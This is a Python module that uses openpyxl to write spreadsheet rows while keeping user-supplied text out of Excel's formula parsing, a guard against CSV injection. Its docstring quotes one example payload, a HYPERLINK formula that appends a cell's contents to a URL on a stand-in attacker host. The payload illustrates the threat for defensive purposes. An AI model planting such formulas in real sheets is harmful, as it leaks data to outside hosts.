"""Rows into an Excel sheet with no cell read as a formula.

Names, workplaces and notes come from residents and officers: a workplace typed as
`=HYPERLINK("http://evil.example/?x="&A3,"詳細")` would otherwise be written by openpyxl as a live
formula, and text beginning with +, -, @, a tab or a carriage return is taken for one by Excel
when a cell is edited or the sheet is saved as CSV (OWASP "CSV injection"). Such text is written
as a text cell with Excel's quote prefix, and shows exactly as typed.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """`sheet.append(values)`, each text that could be read as a formula kept as text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        value = cell.value
        if isinstance(value, str) and value.startswith(FORMULA_LEADS):
            cell.data_type = "s"
            cell.quotePrefix = True
